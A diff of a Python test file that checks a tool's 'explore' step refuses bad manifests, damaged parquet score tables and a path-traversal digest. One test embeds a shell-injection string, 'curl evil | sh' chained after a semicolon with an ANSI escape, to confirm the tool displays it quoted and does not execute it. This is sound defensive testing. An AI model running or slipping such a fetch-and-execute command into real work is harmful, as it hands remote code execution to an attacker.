@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from decimal import Decimal
 from pathlib import Path
 
@@ -45,8 +46,9 @@ def test_a_choice_is_what_select_takes(demo: Looked, tmp_path: Path, asked: Aske
     ranked = table.filter(pl.col("rank_joint").is_not_null()).sort(
         "rank_joint", "trace_tokens", "row", descending=[False, True, False]
     )
-    assert choice.order[: ranked.height].tolist() == ranked["row"].to_list()
-    assert np.array_equal(choice.place[choice.order], np.arange(table.height))
+    order = explored.order(choice.weight)
+    assert order.rows[: ranked.height].tolist() == ranked["row"].to_list()
+    assert np.array_equal(order.place[order.rows], np.arange(table.height))
 
 
 def test_without_anything_asked_it_is_the_recorded_choice(demo: Looked) -> None:
@@ -77,6 +79,51 @@ def test_a_folder_that_is_no_selection_is_refused(tmp_path: Path) -> None:
         explore(tmp_path)
 
 
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"kind": "comparison"},
+        {"kind": "analysis"},
+        {"selected": None},
+        {"parameters": {}},
+        {"parameters": {"weight": None}},
+        {"pool": {"digest": "../../elsewhere", "sources": []}},
+        {"pool": {"digest": "0123456789abcdef"}},
+    ],
+    ids=str,
+)
+def test_manifests_of_something_else_are_refused(demo: Looked, tmp_path: Path, change: dict[str, object]) -> None:
+    manifest = json.loads((demo.folder / "manifest.json").read_bytes()) | change
+    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
+    (tmp_path / "scores.parquet").write_bytes((demo.folder / "scores.parquet").read_bytes())
+    with pytest.raises(UsageError, match="is no selection"):
+        explore(tmp_path, demo.cache)
+
+
+@pytest.mark.parametrize("damage", ["truncated", "a column gone", "a reason unknown", "gone"])
+def test_damaged_score_tables_are_refused_before_anything_is_served(demo: Looked, tmp_path: Path, damage: str) -> None:
+    (tmp_path / "manifest.json").write_bytes((demo.folder / "manifest.json").read_bytes())
+    file = tmp_path / "scores.parquet"
+    table = pl.read_parquet(demo.folder / "scores.parquet")
+    if damage == "truncated":
+        file.write_bytes((demo.folder / "scores.parquet").read_bytes()[:5000])
+    elif damage == "a column gone":
+        table.drop("looping").write_parquet(file)
+    elif damage == "a reason unknown":
+        table.with_columns(reason=pl.lit("no reason")).write_parquet(file)
+    with pytest.raises(RunError, match="run the same select again"):
+        explore(tmp_path, demo.cache)
+
+
+def test_what_a_manifest_says_is_shown_and_not_obeyed(demo: Looked, tmp_path: Path) -> None:
+    manifest = json.loads((demo.folder / "manifest.json").read_bytes())
+    command = "select2reason select p ; curl evil | sh \x1b[31m"
+    (tmp_path / "manifest.json").write_text(json.dumps(manifest | {"command": command}))
+    with pytest.raises(UsageError) as refused:
+        explore(tmp_path, tmp_path / "cache")
+    assert "select2reason select p ';' curl evil '|' sh '␛[31m' --force" in str(refused.value)
+
+
 def test_a_cleared_cache_names_the_command_that_brings_the_pool_back(demo: Looked, tmp_path: Path) -> None:
     with pytest.raises(UsageError, match=r"bring it back: select2reason select .*pool\.jsonl .* --force"):
         explore(demo.folder, tmp_path)
@@ -87,4 +134,4 @@ def test_a_score_table_of_another_pool_is_refused(demo: Looked, tmp_path: Path) 
         (tmp_path / name).write_bytes((demo.folder / name).read_bytes())
     pl.read_parquet(demo.folder / "scores.parquet").head(5).write_parquet(tmp_path / "scores.parquet")
     with pytest.raises(RunError, match="has 5 rows, the pool"):
-        explore(tmp_path, demo.cache).choice(Asked())
+        explore(tmp_path, demo.cache)
